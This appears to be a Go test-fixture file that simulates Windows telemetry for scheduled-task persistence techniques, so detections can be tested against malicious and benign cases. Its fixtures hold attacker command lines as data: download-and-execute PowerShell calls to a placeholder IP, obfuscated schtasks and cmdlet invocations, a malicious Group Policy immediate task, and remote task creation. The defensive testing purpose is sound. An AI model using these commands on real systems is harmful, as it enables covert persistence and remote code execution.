package behaviours

import "time"

const (
	schtasks   = `C:\Windows\System32\schtasks.exe`
	shell      = `C:\Windows\System32\cmd.exe`
	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	word       = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
)

// asks is a start of schtasks by another program.
func asks(line, parent string) process {
	return process{image: schtasks, line: line, original: "schtasks.exe", company: "Microsoft Corporation", parent: parent, parentLine: parent}
}

// threeWays tells one start in the three ways that know command lines.
func threeWays(id string, p process) []facet {
	return []facet{
		hit(id+"-4688", func(h *host) { h.started4688(p) }),
		hit(id+"-sysmon1", func(h *host) { h.started1(p) }),
		hit(id+"-mde-process", func(h *host) { h.startedRow(p) }),
	}
}

func threeQuiet(id string, p process) []facet {
	list := threeWays(id, p)
	for i := range list {
		list[i].quiet = true
	}
	return list
}

// scripts tells one script in the ways that keep what PowerShell ran.
func scripts(id, text string) []facet {
	return []facet{
		hit(id+"-4104", func(h *host) { h.script(text) }),
		hit(id+"-mde-script", func(h *host) {
			h.row("DeviceEvents", "ActionType", "PowerShellCommand", "AdditionalFields", jsonText(map[string]any{"Command": text}), "InitiatingProcessFileName", "powershell.exe", "InitiatingProcessFolderPath", powershell, "InitiatingProcessAccountName", "mira", "InitiatingProcessAccountSid", userSID, "InitiatingProcessId", 5120)
		}),
		hit(id+"-800", func(h *host) {
			h.event("Windows PowerShell", "PowerShell", 800, "param1", text, "param2", "\tDetailSequence=1\n\tDetailTotal=1\n\n\tUserId=LAB\\mira\n\tHostName=ConsoleHost\n\tHostApplication=powershell.exe -nop -c "+text, "param3", "")
		}),
		hit(id+"-400", func(h *host) {
			h.event("Windows PowerShell", "PowerShell", 400, "param1", "Available", "param2", "None", "param3", "\tNewEngineState=Available\n\tHostName=ConsoleHost\n\tHostApplication=powershell.exe -nop -c "+text)
		}),
		hit(id+"-encoded", func(h *host) {
			h.started4688(process{image: powershell, line: "powershell.exe -nop -enc " + encoded(text), parent: shell, parentLine: shell})
		}),
	}
}

// asked is who asks for a task, and through what.
func asked() []facet {
	evil := tsk{path: `\Refresh`, command: `C:\Users\Public\@HOST@\r.exe`, trigger: logon}
	var list []facet
	add := func(more ...facet) { list = append(list, more...) }

	// B01
	add(threeWays("b01", asks(`schtasks /create /tn Refresh1 /tr C:\Users\Public\@HOST@\r.exe /sc onlogon`, word))...)
	add(threeWays("b01b", asks(`schtasks.exe /Create /SC DAILY /TN Refresh2 /TR "powershell.exe -w hidden -ep bypass -f C:\ProgramData\@HOST@\r.ps1"`, shell))...)
	add(hit("b01-4698", func(h *host) { h.registered4698(evil) }))
	add(hit("b01-mde-created", func(h *host) { h.scheduledRow("ScheduledTaskCreated", evil, true) }))
	add(hit("b01-web-4688", func(h *host) {
		h.started4688(asks(`schtasks /create /tn Sync /tr "C:\inetpub\temp\s.exe" /sc minute /mo 30`, `C:\Windows\System32\inetsrv\w3wp.exe`))
	}))
	add(threeQuiet("b01-installer", asks(`schtasks /create /tn "Contoso Updater" /tr "\"C:\Program Files\Contoso @HOST@\updater.exe\" /check" /sc daily`, `C:\Program Files\Contoso @HOST@\setup.exe`))...)
	add(quiet("b01-system-4688", func(h *host) {
		h.started4688(process{image: schtasks, line: `schtasks /create /tn "Contoso Updater" /tr "\"C:\Program Files\Contoso @HOST@\updater.exe\" /check" /sc daily /ru system`, parent: `C:\Program Files\Contoso @HOST@\setup.exe`, system: true})
	}))

	// B02
	add(hit("b02-sysmon1", func(h *host) {
		h.started1(process{image: `C:\Users\mira\AppData\Local\Temp\tsk.exe`, line: `tsk.exe -Create -tn Up -tr calc.exe -sc daily`, original: "schtasks.exe", company: "Microsoft Corporation", parent: shell, parentLine: shell})
	}))
	add(hit("b02-mde-process", func(h *host) {
		h.startedRow(process{image: `C:\Users\mira\AppData\Local\Temp\tsk.exe`, line: `tsk.exe -Create -tn Up -tr calc.exe -sc daily`, original: "schtasks.exe", company: "Microsoft Corporation", parent: shell, parentLine: shell})
	}))
	add(hit("b02-4688", func(h *host) {
		h.started4688(process{image: `C:\Users\mira\AppData\Local\Temp\tsk.exe`, line: `tsk.exe -cReAte -tn Up -tr calc.exe -sc daily`, parent: shell, parentLine: shell})
	}))
	add(hit("b02-caret-4688", func(h *host) {
		h.started4688(process{image: shell, line: `cmd.exe /c s^cht^as^ks /cr^eate /tn Up /t^r "C:\Users\Public\@HOST@\r.exe" /sc onlogon`, parent: `C:\Windows\explorer.exe`, parentLine: `C:\Windows\explorer.exe`})
	}))
	// B03
	add(threeWays("b03", asks(`schtasks /create /tn Up /xml C:\Users\mira\AppData\Local\Temp\t.dat`, shell))...)
	add(hit("b03-4698", func(h *host) {
		h.registered4698(tsk{path: `\Up`, author: `OTHERPC\builder`, date: "2026-01-01T00:00:00", command: `C:\ProgramData\@HOST@\u\u.exe`})
	}))
	add(threeQuiet("b03-installer", asks(`schtasks /create /tn "Contoso Updater" /xml "C:\Program Files\Contoso @HOST@\updater.xml" /f`, `C:\Program Files\Contoso @HOST@\setup.exe`))...)

	// B04: every face of the cmdlets
	add(scripts("b04-cmdlets", `$a = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-w hidden -nop -c iex(iwr http://203.0.113.7/@HOST@a)"; Register-ScheduledTask -TaskName "Refresh" -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)`)...)
	add(scripts("b04-quiet-args", `Register-ScheduledTask -TaskName "Refresh" -Action (New-ScheduledTaskAction -Execute "C:\Users\Public\@HOST@\r.exe") -Trigger (New-ScheduledTaskTrigger -AtLogOn)`)...)
	add(scripts("b04-splat", "$p = @{ TaskName = 'Refresh'; Action = (New-ScheduledTaskAction -Execute 'C:\\Users\\Public\\r.exe'); Force = $true }\nRegister-ScheduledTask @p")...)
	add(scripts("b04-set", `$a = New-ScheduledTaskAction -Execute 'C:\ProgramData\@HOST@\r.exe'; Set-ScheduledTask -TaskName 'OneDrive Reporting Task' -Action $a`)...)
	add(scripts("b04-backtick", "$a = New-Schedul`edTaskAction -Execute 'C:\\Users\\Public\\r.exe'; Regist`er-ScheduledTask -TaskName Refresh -Action $a")...)
	add(scripts("b04-invoked", `$a = & (Get-Command New-ScheduledT*kAction) -Execute 'C:\Users\Public\@HOST@\r.exe'; & ('Register-'+'ScheduledTask') -TaskName Refresh -Action $a`)...)
	add(scripts("b04-alias", `Set-Alias rst Register-ScheduledTask; rst -TaskName Refresh -Action (New-ScheduledTaskAction -Execute 'C:\Users\Public\@HOST@\r.exe')`)...)
	add(hit("b04-4103", func(h *host) {
		h.event("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4103,
			"ContextInfo", "        Severity = Informational\n        Host Name = ConsoleHost\n        Host Application = powershell.exe\n        Command Name = Register-ScheduledTask\n        Command Type = Function\n        User = LAB\\mira\n",
			"Payload", "CommandInvocation(New-ScheduledTaskAction): \"New-ScheduledTaskAction\"\nParameterBinding(New-ScheduledTaskAction): name=\"Execute\"; value=\"C:\\Users\\Public\\r.exe\"\nCommandInvocation(Register-ScheduledTask): \"Register-ScheduledTask\"\nParameterBinding(Register-ScheduledTask): name=\"TaskName\"; value=\"Refresh\"\n")
	}))
	add(threeWays("b04-line", process{image: powershell, line: `powershell -nop -c "Register-ScheduledTask -TaskName Refresh -Action (New-ScheduledTaskAction -Execute C:\Users\Public\@HOST@\r.exe)"`, parent: shell, parentLine: shell})...)
	add(quiet("b04-module-4104", func(h *host) {
		h.script("#requires -version 3.0\ntry { Microsoft.PowerShell.Core\\Set-StrictMode -Off } catch { }\n$script:MyModule = $MyInvocation.MyCommand.ScriptBlock.Module\n$script:ClassName = 'Root/Microsoft/Windows/TaskScheduler/PS_ScheduledTask'\nfunction Register-ScheduledTask {\n[CmdletBinding()]\nparam($TaskName)\n$__cmdletization_methodName = 'RegisterByXml'\n}\nMicrosoft.PowerShell.Core\\Export-ModuleMember -Function 'Register-ScheduledTask' -Alias '*'")
	}))
	add(quiet("b04-list-4104", func(h *host) {
		h.script(`Get-ScheduledTask | Where-Object State -eq Ready | Get-ScheduledTaskInfo | Export-Csv report.csv`)
	}))
	add(quiet("b04-admin-4104", func(h *host) {
		h.script(`$a = New-ScheduledTaskAction -Execute "C:\Program Files\Contoso @HOST@\backup.exe" -Argument "/nightly"; Register-ScheduledTask -TaskName "Contoso Backup" -Action $a -Trigger (New-ScheduledTaskTrigger -Daily -At 3am)`)
	}))

	// B05
	add(scripts("b05-xml", `$xml = [IO.File]::ReadAllText("C:\Users\Public\@HOST@\t.xml"); Invoke-CimMethod -ClassName PS_ScheduledTask -Namespace "Root\Microsoft\Windows\TaskScheduler" -MethodName "RegisterByXml" -Arguments @{ Force = $true; Xml = $xml }`)...)
	add(scripts("b05-wmiclass", `([wmiclass]'\\.\root\Microsoft\Windows\TaskScheduler:PS_ScheduledTask').RegisterByXml($true, $null, $null, 'Refresh', '\', $null, (gc C:\Users\Public\@HOST@\t.xml -raw))`)...)
	add(hit("b05-mde-created", func(h *host) {
		h.scheduledRow("ScheduledTaskCreated", evil, true, "InitiatingProcessFileName", "wmiprvse.exe", "InitiatingProcessFolderPath", `c:\windows\system32\wbem\wmiprvse.exe`, "InitiatingProcessCommandLine", `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`)
	}))
	add(hit("b05-4698", func(h *host) {
		h.started4688(process{image: `C:\Windows\System32\wbem\WmiPrvSE.exe`, parent: `C:\Windows\System32\svchost.exe`, system: true})
		h.registered4698(evil, "ClientProcessId", "4004", "ParentProcessId", "1232")
	}))

	// B06
	add(hit("b06-sysmon7", func(h *host) {
		h.sysmon(7, "ProcessGuid", h.guid(7), "ProcessId", 6100, "Image", word, "ImageLoaded", `C:\Windows\System32\taskschd.dll`, "Signed", "true", "Signature", "Microsoft Windows", "SignatureStatus", "Valid", "User", `LAB\mira`)
		h.sysmon(13, "EventType", "SetValue", "ProcessGuid", h.guid(9), "ProcessId", 1232, "Image", service, "TargetObject", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tasks\{0a1b2c3d-0000-4000-8000-00000000b006}\Actions`, "Details", "Binary Data", "User", `NT AUTHORITY\SYSTEM`)
	}))
	add(hit("b06-implant-sysmon7", func(h *host) { // weak: an installer does that
		h.sysmon(7, "ProcessGuid", h.guid(7), "ProcessId", 6100, "Image", `C:\Users\mira\AppData\Local\Temp\sv.exe`, "ImageLoaded", `C:\Windows\System32\taskschd.dll`, "Signed", "true", "SignatureStatus", "Valid", "User", `LAB\mira`)
	}).low())
	add(hit("b06-roaming-sysmon7", func(h *host) {
		h.sysmon(7, "ProcessGuid", h.guid(7), "ProcessId", 6100, "Image", `C:\Users\mira\AppData\Roaming\@HOST@\svc\sv.exe`, "ImageLoaded", `C:\Windows\System32\taskschd.dll`, "Signed", "true", "SignatureStatus", "Valid", "User", `LAB\mira`)
		h.sysmon(13, "EventType", "SetValue", "ProcessGuid", h.guid(9), "ProcessId", 1232, "Image", service, "TargetObject", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\svchelper\Id`, "Details", "{0a1b2c3d-0000-4000-8000-00000000b006}", "User", `NT AUTHORITY\SYSTEM`)
	}))
	add(hit("b06-mde-image", func(h *host) {
		h.row("DeviceImageLoadEvents", "ActionType", "ImageLoaded", "FileName", "taskschd.dll", "FolderPath", `C:\Windows\System32\taskschd.dll`, "InitiatingProcessFileName", "winword.exe", "InitiatingProcessFolderPath", word, "InitiatingProcessCommandLine", `"WINWORD.EXE" invoice.docm`, "InitiatingProcessId", 6100, "InitiatingProcessAccountName", "mira")
		h.scheduledRow("ScheduledTaskCreated", tsk{path: `\Refresh`}, false)
	}))
	add(hit("b06-4698", func(h *host) {
		h.started4688(process{image: word, line: `"WINWORD.EXE" C:\Users\mira\Downloads\invoice.docm`, parent: `C:\Windows\explorer.exe`, parentLine: "explorer.exe"})
		h.registered4698(tsk{path: `\Refresh`, command: `C:\Users\mira\AppData\Roaming\@HOST@\svc\sv.exe`}, "ClientProcessId", "4004", "ParentProcessId", "3000")
	}))
	add(quiet("b06-updater-sysmon7", func(h *host) {
		h.sysmon(7, "ProcessGuid", h.guid(7), "ProcessId", 6100, "Image", `C:\Program Files\Contoso @HOST@\updater.exe`, "ImageLoaded", `C:\Windows\System32\taskschd.dll`, "Signed", "true", "SignatureStatus", "Valid", "User", `LAB\mira`)
	}))
	add(quiet("b06-explorer-mde-image", func(h *host) {
		h.row("DeviceImageLoadEvents", "ActionType", "ImageLoaded", "FileName", "taskschd.dll", "FolderPath", `C:\Windows\System32\taskschd.dll`, "InitiatingProcessFileName", "explorer.exe", "InitiatingProcessFolderPath", `c:\windows\explorer.exe`, "InitiatingProcessCommandLine", `explorer.exe`, "InitiatingProcessId", 6100, "InitiatingProcessAccountName", "mira")
	}))

	// B07
	add(threeWays("b07-at", process{image: `C:\Windows\System32\at.exe`, line: `at 23:30 /interactive C:\Temp\r.bat`, original: "at.exe", parent: shell, parentLine: shell})...)
	add(hit("b07-sysmon11", func(h *host) {
		h.sysmon(11, "ProcessGuid", h.guid(11), "ProcessId", 6200, "Image", `C:\Users\mira\AppData\Local\Temp\dropper.exe`, "TargetFilename", `C:\Windows\Tasks\At1.job`, "User", `LAB\mira`)
	}))
	add(hit("b07-sysmon13", func(h *host) {
		h.sysmon(13, "EventType", "SetValue", "ProcessGuid", h.guid(13), "ProcessId", 6200, "Image", `C:\Windows\System32\reg.exe`, "TargetObject", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\Configuration\EnableAt`, "Details", "DWORD (0x00000001)", "User", `LAB\mira`)
	}))
	add(hit("b07-mde-registry", func(h *host) {
		h.row("DeviceRegistryEvents", "ActionType", "RegistryValueSet", "RegistryKey", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\Configuration`, "RegistryValueName", "EnableAt", "RegistryValueData", "1", "RegistryValueType", "Dword", "InitiatingProcessFileName", "reg.exe", "InitiatingProcessFolderPath", `c:\windows\system32\reg.exe`, "InitiatingProcessAccountName", "mira")
	}))
	add(hit("b07-mde-file", func(h *host) {
		h.row("DeviceFileEvents", "ActionType", "FileCreated", "FileName", "At1.job", "FolderPath", `C:\Windows\Tasks\At1.job`, "InitiatingProcessFileName", "dropper.exe", "InitiatingProcessFolderPath", `c:\users\mira\appdata\local\temp\dropper.exe`, "InitiatingProcessAccountName", "mira")
	}))
	add(hit("b07-106", func(h *host) { h.scheduler(106, "TaskName", `\At1`, "UserContext", `LAB\mira`) }).info())
	add(quiet("b07-vendor-sysmon11", func(h *host) {
		h.sysmon(11, "ProcessGuid", h.guid(11), "ProcessId", 1232, "Image", service, "TargetFilename", `C:\Windows\Tasks\CCleanerCrashReporting.job`, "User", `NT AUTHORITY\SYSTEM`)
	}))

	// B08
	add(scripts("b08", `([wmiclass]"Win32_ScheduledJob").Create("C:\Users\Public\@HOST@\r.exe", "********133000.000000+060")`)...)
	add(threeWays("b08-wmic", process{image: `C:\Windows\System32\wbem\WMIC.exe`, line: `wmic job call create "C:\Users\Public\@HOST@\r.exe",0,0,true,false,********154600.000000+060`, original: "wmic.exe", parent: shell, parentLine: shell})...)

	// B09
	add(scripts("b09", `Register-ScheduledJob -Name Refresh -ScriptBlock { iex (iwr http://203.0.113.7/@HOST@a -UseBasicParsing) } -Trigger (New-JobTrigger -AtLogOn)`)...)
	add(scripts("b09-file", `Register-ScheduledJob -Name Refresh -FilePath C:\Users\Public\@HOST@\r.ps1 -Trigger (New-JobTrigger -AtStartup)`)...)
	add(hit("b09-mde-file", func(h *host) {
		h.row("DeviceFileEvents", "ActionType", "FileCreated", "FileName", "ScheduledJobDefinition.xml", "FolderPath", `C:\Users\mira\AppData\Local\Microsoft\Windows\PowerShell\ScheduledJobs\Refresh\ScheduledJobDefinition.xml`, "InitiatingProcessFileName", "sv.exe", "InitiatingProcessFolderPath", `c:\users\mira\appdata\local\temp\sv.exe`, "InitiatingProcessAccountName", "mira")
	}))
	job := tsk{path: `\Microsoft\Windows\PowerShell\ScheduledJobs\Refresh`, trigger: logon, command: "powershell.exe", args: `-NoLogo -NonInteractive -WindowStyle Hidden -Command "Import-Module PSScheduledJob; $jobDef = [Microsoft.PowerShell.ScheduledJob.ScheduledJobDefinition]::LoadFromStore('Refresh', 'C:\Users\mira\AppData\Local\Microsoft\Windows\PowerShell\ScheduledJobs'); $jobDef.Run()"`}
	add(hit("b09-xml", func(h *host) { h.taskFile(job) }).of(job.path).info())
	add(hit("b09-4698", func(h *host) { h.registered4698(job) }).low())

	// B10
	add(hit("b10-5136", func(h *host) {
		h.security(5136, "ObjectDN", `CN={6AC1786C-016F-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=lab,DC=example`, "AttributeLDAPDisplayName", "gPCMachineExtensionNames", "AttributeValue", "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]", "OperationType", "%%14674", "OpCorrelationID", "{1}")
	}))
	add(hit("b10-5145", func(h *host) {
		h.security(5145, "ObjectType", "File", "IpAddress", "10.2.3.4", "ShareName", `\\*\SYSVOL`, "RelativeTargetName", `lab.example\Policies\{6AC1786C-016F-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`, "AccessMask", "0x2", "AccessList", "%%4417 %%4418")
	}))
	add(hit("b10-sysmon11", func(h *host) {
		h.sysmon(11, "ProcessGuid", h.guid(11), "ProcessId", 6200, "Image", powershell, "TargetFilename", `C:\Windows\SYSVOL\domain\Policies\{6AC1786C-016F-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`, "User", `LAB\mira`)
	}))
	add(hit("b10-mde-file", func(h *host) {
		h.row("DeviceFileEvents", "ActionType", "FileCreated", "FileName", "ScheduledTasks.xml", "FolderPath", `C:\Windows\SYSVOL\domain\Policies\{6AC1786C-016F-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`, "InitiatingProcessFileName", "powershell.exe", "InitiatingProcessFolderPath", powershell, "InitiatingProcessAccountName", "mira")
	}))
	add(hit("b10-policy-xml", func(h *host) {
		h.file(`SYSVOL/lab.example/Policies/{6AC1786C-016F-11D2-945F-00C04FB984F9}/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml`, []byte(`<?xml version="1.0" encoding="utf-8"?>`+"\r\n"+`<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}"><ImmediateTaskV2 clsid="{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}" name="SysRefresh" image="0" changed="2031-05-05 09:00:00" uid="{11111111-2222-4333-8444-555555555555}"><Properties action="C" name="SysRefresh" runAs="NT AUTHORITY\System" logonType="S4U"><Task version="1.3"><RegistrationInfo><Author>LAB\mira</Author></RegistrationInfo><Principals><Principal id="Author"><UserId>NT AUTHORITY\System</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Settings><Enabled>true</Enabled></Settings><Triggers><TimeTrigger><StartBoundary>%LocalTimeXmlEx%</StartBoundary></TimeTrigger></Triggers><Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-w hidden -nop -c iex(iwr http://203.0.113.7/b10)</Arguments></Exec></Actions></Task></Properties></ImmediateTaskV2></ScheduledTasks>`))
	}).of(`\SysRefresh`))
	add(hit("b10-old-policy-xml", func(h *host) {
		h.file(`SYSVOL/lab.example/Policies/{6AC1786C-016F-11D2-945F-00C04FB984F9}/User/Preferences/ScheduledTasks/ScheduledTasks.xml`, []byte(`<?xml version="1.0" encoding="utf-8"?>`+"\r\n"+`<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}"><Task clsid="{2DEECB1C-261F-4e13-9B21-16FB83BC03BD}" name="SysOld" image="2"><Properties action="U" name="SysOld" appName="C:\Users\Public\b10\r.exe" args="-q" startIn="" runAs="%LogonUser%" comment=""><Triggers><Trigger type="DAILY" startHour="8"/></Triggers></Properties></Task></ScheduledTasks>`))
	}).of(`\SysOld`))
	add(quiet("b10-deploy-policy-xml", func(h *host) {
		h.file(`SYSVOL/lab.example/Policies/{7AC1786C-016F-11D2-945F-00C04FB984F9}/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml`, []byte(`<?xml version="1.0" encoding="utf-8"?>`+"\r\n"+`<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}"><TaskV2 clsid="{D8896631-B747-47a7-84A6-C155337F3BC8}" name="Contoso Inventory" image="0"><Properties action="U" name="Contoso Inventory"><Task version="1.2"><RegistrationInfo><Author>LAB\adm</Author></RegistrationInfo><Principals><Principal id="Author"><UserId>NT AUTHORITY\System</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Triggers><CalendarTrigger><StartBoundary>2031-01-01T08:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers><Actions Context="Author"><Exec><Command>C:\Program Files\Contoso\inventory.exe</Command></Exec></Actions></Task></Properties></TaskV2></ScheduledTasks>`))
	}).of(`\Contoso Inventory`))
	add(quiet("b10-dfsr-mde-file", func(h *host) {
		h.row("DeviceFileEvents", "ActionType", "FileCreated", "FileName", "ScheduledTasks.xml", "FolderPath", `C:\Windows\SYSVOL\domain\Policies\{6AC1786C-016F-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`, "InitiatingProcessFileName", "dfsrs.exe", "InitiatingProcessFolderPath", `c:\windows\system32\dfsrs.exe`, "InitiatingProcessAccountName", "system")
	}))
	add(quiet("b10-read-5145", func(h *host) {
		h.security(5145, "ObjectType", "File", "IpAddress", "10.2.3.4", "ShareName", `\\*\SYSVOL`, "RelativeTargetName", `lab.example\Policies\{6AC1786C-016F-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`, "AccessMask", "0x120089", "AccessList", "%%1538 %%1541 %%4416 %%4419 %%4423")
	}))

	// B11
	remote := tsk{path: `\Refresh`, command: `C:\Windows\System32\cmd.exe`, args: `/c C:\Windows\r.bat`, principal: asLocal}
	add(hit("b11-4698", func(h *host) {
		h.registered4698(remote, "ClientProcessId", "0", "ParentProcessId", "0", "ClientProcessStartKey", "0")
	}))
	add(hit("b11-5145", func(h *host) {
		h.security(5145, "ObjectType", "File", "IpAddress", "10.2.3.4", "ShareName", `\\*\IPC$`, "RelativeTargetName", "atsvc", "AccessMask", "0x12019f", "AccessList", "%%4416 %%4417")
	}).low())
	add(hit("b11-4624", func(h *host) {
		h.security(4624, "TargetUserSid", userSID, "TargetUserName", "mira", "TargetLogonId", "0x77aa1", "LogonType", "3", "IpAddress", "10.2.3.4", "IpPort", "51111", "AuthenticationPackageName", "NTLM")
		h.wait(3*time.Second).registered4698(remote, "SubjectLogonId", "0x77aa1", "ClientProcessId", "0", "ParentProcessId", "0")
	}))
	add(threeWays("b11", asks(`schtasks /create /s SRV02 /u LAB\adm /p x /tn Refresh /tr C:\Windows\Temp\r.exe /sc once /st 00:00 /ru SYSTEM`, shell))...)
	add(hit("b11-sysmon18", func(h *host) {
		h.sysmon(18, "EventType", "ConnectPipe", "ProcessGuid", h.guid(18), "ProcessId", 4, "PipeName", `\atsvc`, "Image", "System", "User", `NT AUTHORITY\SYSTEM`)
		h.sysmon(13, "EventType", "SetValue", "ProcessGuid", h.guid(9), "ProcessId", 1232, "Image", service, "TargetObject", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Refresh\Id`, "Details", "{0a1b2c3d-0000-4000-8000-00000000b011}", "User", `NT AUTHORITY\SYSTEM`)
	}).low())
	add(hit("b11-sysmon3", func(h *host) {
		h.sysmon(3, "ProcessGuid", h.guid(3), "ProcessId", 1232, "Image", service, "User", `NT AUTHORITY\SYSTEM`, "Protocol", "tcp", "Initiated", "false", "SourceIp", "10.2.3.4", "SourcePort", "51111", "DestinationIp", "10.2.3.9", "DestinationPort", "49669")
		h.sysmon(13, "EventType", "SetValue", "ProcessGuid", h.guid(9), "ProcessId", 1232, "Image", service, "TargetObject", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Refresh\Id`, "Details", "{0a1b2c3d-0000-4000-8000-00000000b011}", "User", `NT AUTHORITY\SYSTEM`)
	}).info())
	add(hit("b11-mde-logon", func(h *host) {
		h.row("DeviceLogonEvents", "ActionType", "LogonSuccess", "LogonType", "Network", "AccountName", "mira", "AccountSid", userSID, "RemoteIP", "10.2.3.4", "LogonId", 490145)
		h.wait(5*time.Second).scheduledRow("ScheduledTaskCreated", remote, true)
	}))
	add(quiet("b11-local-4698", func(h *host) {
		h.registered4698(tsk{path: `\Contoso\Updater`, command: `C:\Program Files\Contoso @HOST@\updater.exe`, args: "/check", author: "Contoso"})
	}))

	// B12
	at := tsk{path: `\CYAlyNSS`, command: "cmd.exe", args: `/C whoami > %windir%\Temp\CYAlyNSS.tmp 2>&1`, principal: asLocal, trigger: `<CalendarTrigger><StartBoundary>2015-07-15T20:35:13.2757294</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>`}
	line := process{image: shell, line: `cmd.exe /C whoami > C:\Windows\Temp\CYAlyNSS.tmp 2>&1`, system: true}
	add(hit("b12-4698", func(h *host) { h.registered4698(at); h.wait(2*time.Second).security(4699, "TaskName", at.path) }))
	add(hit("b12-sysmon1", func(h *host) { h.started1(line) }))
	add(hit("b12-mde-process", func(h *host) { h.startedRow(line) }))
	add(hit("b12-4688", func(h *host) { h.started4688(line) }))
	add(hit("b12-sysmon11", func(h *host) {
		h.sysmon(11, "ProcessGuid", h.guid(11), "ProcessId", 6300, "Image", shell, "TargetFilename", `C:\Windows\Temp\CYAlyNSS.tmp`, "User", `NT AUTHORITY\SYSTEM`)
		h.sysmon(13, "EventType", "SetValue", "ProcessGuid", h.guid(9), "ProcessId", 1232, "Image", service, "TargetObject", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\CYAlyNSS\Id`, "Details", "{0a1b2c3d-0000-4000-8000-00000000b012}", "User", `NT AUTHORITY\SYSTEM`)
	}).low())
	add(hit("b12-scheduler", func(h *host) {
		h.scheduler(106, "TaskName", at.path, "UserContext", `LAB\mira`)
		h.scheduler(110, "TaskName", at.path, "InstanceId", "{ab000000-0000-4000-8000-000000000012}", "UserContext", `LAB\mira`)
		h.scheduler(129, "TaskName", at.path, "Path", "cmd.exe", "ProcessID", "6300", "Priority", "16384")
		h.scheduler(141, "TaskName", at.path, "UserName", `LAB\mira`)
	}))
	add(hit("b12-mde-created", func(h *host) {
		h.scheduledRow("ScheduledTaskCreated", at, true)
		h.wait(2*time.Second).scheduledRow("ScheduledTaskDeleted", at, false)
	}))
	add(hit("b12-mde-names-only", func(h *host) {
		h.scheduledRow("ScheduledTaskCreated", at, false)
		h.wait(2*time.Second).scheduledRow("ScheduledTaskDeleted", at, false)
	}))

	// B13
	for id, parent := range map[string]string{"winrm": `C:\Windows\System32\wsmprovhost.exe`, "winrs": `C:\Windows\System32\winrshost.exe`, "psexec": `C:\Windows\PSEXESVC.exe`} {
		add(threeWays("b13-"+id, asks(`schtasks /create /tn Refresh /tr C:\Windows\r.exe /sc onstart /ru SYSTEM`, parent))...)
	}
	add(hit("b13-mde-created", func(h *host) {
		h.scheduledRow("ScheduledTaskCreated", tsk{path: `\Refresh`, command: `C:\Windows\r.exe`}, true, "InitiatingProcessFileName", "wsmprovhost.exe", "InitiatingProcessFolderPath", `c:\windows\system32\wsmprovhost.exe`, "InitiatingProcessCommandLine", `C:\Windows\system32\wsmprovhost.exe -Embedding`)
	}))

	// B14
	add(hit("b14-sysmon11", func(h *host) {
		h.sysmon(11, "ProcessGuid", h.guid(11), "ProcessId", 6200, "Image", `C:\Windows\System32\msiexec.exe`, "TargetFilename", `C:\Windows\System32\Tasks\chrome display`, "User", `NT AUTHORITY\SYSTEM`)
	}))
	add(hit("b14-mde-created", func(h *host) {
		h.scheduledRow("ScheduledTaskCreated", tsk{path: `\chrome display`, command: `C:\Users\mira\AppData\Local\chr\u.exe`}, true, "InitiatingProcessFileName", "setup_x64.exe", "InitiatingProcessFolderPath", `c:\users\mira\downloads\setup_x64.exe`, "InitiatingProcessCommandLine", `"C:\Users\mira\Downloads\setup_x64.exe"`)
	}))
	add(hit("b14-mde-file", func(h *host) {
		h.row("DeviceFileEvents", "ActionType", "FileCreated", "FileName", "chrome display", "FolderPath", `C:\Windows\System32\Tasks\chrome display`, "InitiatingProcessFileName", "setup_x64.exe", "InitiatingProcessFolderPath", `c:\users\mira\downloads\setup_x64.exe`, "InitiatingProcessAccountName", "mira")
	}))
	add(quiet("b14-msi-mde-created", func(h *host) {
		h.scheduledRow("ScheduledTaskCreated", tsk{path: `\Contoso\Updater`, command: `C:\Program Files\Contoso @HOST@\updater.exe`, args: "/check", author: "Contoso"}, true, "InitiatingProcessFileName", "msiexec.exe", "InitiatingProcessFolderPath", `c:\windows\system32\msiexec.exe`, "InitiatingProcessCommandLine", `C:\Windows\system32\msiexec.exe /V`)
	}))
	return list
}
